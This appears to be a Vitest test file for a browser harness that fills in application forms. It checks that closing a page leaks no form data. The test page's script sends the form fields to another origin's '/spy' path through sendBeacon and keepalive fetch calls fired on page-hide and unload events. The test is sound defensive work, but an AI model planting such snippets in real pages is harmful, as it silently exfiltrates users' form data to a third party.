import { afterAll, beforeAll, beforeEach, expect, it, vi } from 'vitest';
import { apply } from '../apply-harness.ts';
import { openBrowser } from '../open-browser.ts';
import { asPage, QUESTIONS, serveSites } from './serve-site.ts';

// Starting a browser on a busy machine takes longer than a test may.
vi.setConfig({ testTimeout: 90_000, hookTimeout: 90_000 });
const browser = openBrowser();
let sites: Awaited<ReturnType<typeof serveSites>>;
beforeAll(async () => {
  sites = await serveSites();
  await browser.warmUp();
});
beforeEach(() => {
  sites.arrived.length = 0;
});
afterAll(async () => {
  await browser.close();
  await sites.close();
});

/** What a page does as it goes. */
const LAST_WORDS: Readonly<Record<string, string>> = {
  'a beacon': `navigator.sendBeacon(to + '/spy', data())`,
  'a request that outlives its page': `fetch(to + '/spy', { method: 'POST', mode: 'no-cors', keepalive: true, body: data() })`,
};

it.each(Object.entries(LAST_WORDS))(
  'a page that is closed takes nothing with it by %s',
  async (_name, way) => {
    const url = sites.page(
      '/last-words',
      asPage(
        `<form id="f" action="/receive" method="post">${QUESTIONS}<button>Submit application</button></form>
      <script>const to = '${sites.other}'; const data = () => new URLSearchParams(new FormData(f)).toString();
      for (const event of ['pagehide', 'visibilitychange', 'unload']) addEventListener(event, () => { for (let i = 0; i < 20; i += 1) ${way}; });</script>`,
      ),
    );
    await apply(browser.host, { url, hooks: { review: async () => ({ decision: 'stop' }) } });
    await new Promise((resolve) => setTimeout(resolve, 1000));
    expect(sites.leaked()).toEqual([]);
  },
);
